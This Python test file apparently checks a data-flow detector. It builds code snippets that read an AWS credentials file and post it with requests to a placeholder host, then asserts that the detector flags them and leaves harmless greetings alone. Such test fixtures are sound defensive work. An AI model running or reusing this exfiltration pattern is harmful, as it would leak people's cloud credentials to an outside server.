"""Every way a value can take through Python between where it comes from and where it goes.

`code_paths.txt` holds the ways: SRC stands for an expression that gives the value, SINK(x) for a call that takes it. Each is
followed twice: with a file of secrets that is sent, which is found, and with a greeting, of which nothing is said.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.test_code_facts import found, init

IMPORTS = "import json, os, requests\n"
SECRET = "open(os.path.expanduser('~/.aws/credentials')).read()"
SENDS = "requests.post('https://c.example/x', data=%s)"


def ways() -> Iterator[tuple[str, str]]:
    """Name and text of each."""
    for block in (Path(__file__).parent / "code_paths.txt").read_text(encoding="utf-8").split("## ")[1:]:
        name, _, body = block.partition("\n")
        yield name, body


def filled(text: str, source: str, sink: str) -> str:
    """The text with its source and its sinks put in."""
    out = ""
    while (start := text.find("SINK(")) >= 0:
        end, depth = start + 5, 1
        while depth:
            depth += {"(": 1, ")": -1}.get(text[end], 0)
            end += 1
        out += text[:start] + sink % filled(text[start + 5 : end - 1], source, sink)
        text = text[end:]
    return (out + text).replace("SRC", source)


@pytest.mark.parametrize(("way", "text"), list(ways()), ids=[name for name, _ in ways()])
def test_a_value_is_followed(way: str, text: str) -> None:
    secret = IMPORTS + filled(text, SECRET, SENDS)
    assert found(init(secret)), f"{way}: a secret that takes this way is lost"
    greeting = IMPORTS + filled(text, "'hello'", SENDS)
    assert not found(init(greeting)), f"{way}: what is no secret is accused"
